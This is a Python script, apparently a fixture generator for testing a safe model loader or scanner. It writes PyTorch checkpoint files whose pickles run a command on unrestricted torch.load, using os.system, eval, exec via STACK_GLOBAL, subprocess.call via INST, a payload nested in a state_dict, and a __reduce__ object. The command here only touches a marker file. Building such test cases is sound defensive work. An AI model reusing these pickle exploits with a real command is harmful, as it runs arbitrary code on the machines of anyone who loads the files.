#!/usr/bin/python3
"""Writes torch files whose pickles would run a command under Python's unrestricted torch.load:
each touches MARKER. Usage: make_malicious.py OUTDIR MARKER. Prints "file global" lines."""
import os
import struct
import sys
import zipfile

import torch

out, marker = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)
cmd = f"touch {marker}"


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def write_zip(name, pkl):
    with zipfile.ZipFile(os.path.join(out, name + ".pt"), "w", zipfile.ZIP_STORED) as z:
        z.writestr(name + "/data.pkl", pkl)
        z.writestr(name + "/version", "3\n")


cases = {
    # GLOBAL os.system + REDUCE, as the textbook exploit.
    "os_system": (b"\x80\x02cos\nsystem\n" + binunicode(cmd) + b"\x85R.", "os.system"),
    # builtins.eval of an expression that imports os.
    "builtins_eval": (b"\x80\x02cbuiltins\neval\n" + binunicode(f"__import__('os').system('{cmd}')") + b"\x85R.",
                      "builtins.eval"),
    # Protocol 4 STACK_GLOBAL hides the name in strings.
    "stack_global_exec": (b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + binunicode(f"import os; os.system('{cmd}')")
                          + b"\x85R.", "builtins.exec"),
    # INST (protocol 0) calls the class with the marked arguments.
    "inst_subprocess": (b"(" + binunicode("touch") + binunicode(marker) + b"lp0\n(g0\nisubprocess\ncall\n.",
                        "subprocess.call"),
    # Nested inside an otherwise ordinary state_dict.
    "nested_in_state_dict": (b"\x80\x02ccollections\nOrderedDict\n)R(" + binunicode("weight")
                             + b"cposix\nsystem\n" + binunicode(cmd) + b"\x85Ru.", "posix.system"),
}
for name, (pkl, glob) in cases.items():
    write_zip(name, pkl)
    print(name + ".pt", glob)


# What torch.save itself writes for an object with a malicious __reduce__.
class Payload:
    def __reduce__(self):
        return (os.system, (cmd,))


torch.save({"module_state_dict": {"w": torch.ones(2)}, "lr": 0.1, "evil": Payload()},
           os.path.join(out, "torch_saved_reduce.pt"))
print("torch_saved_reduce.pt", f"{os.system.__module__}.system")
